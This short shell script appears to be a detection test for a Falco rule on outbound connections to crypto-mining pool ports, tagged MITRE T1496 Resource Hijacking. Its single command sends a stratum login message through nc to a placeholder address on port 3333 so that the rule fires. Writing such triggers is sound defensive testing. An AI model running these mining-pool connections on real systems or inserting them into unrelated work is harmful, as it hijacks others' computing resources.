#!/bin/sh
# title: Connection to a mining pool port (stratum login on 3333)
# technique: T1496 Resource Hijacking
# source: https://attack.mitre.org/techniques/T1496/ ; Falco "Detect outbound connections to common miner pool ports"
# expect: Connection to a crypto mining pool port
# peer: 198.51.100.1:3333
# nonroot: yes
(printf '{"id":1,"method":"login","params":{"login":"4AdUnd"}}\n'; sleep 1) | /bin/nc 198.51.100.1 3333 >/dev/null
true
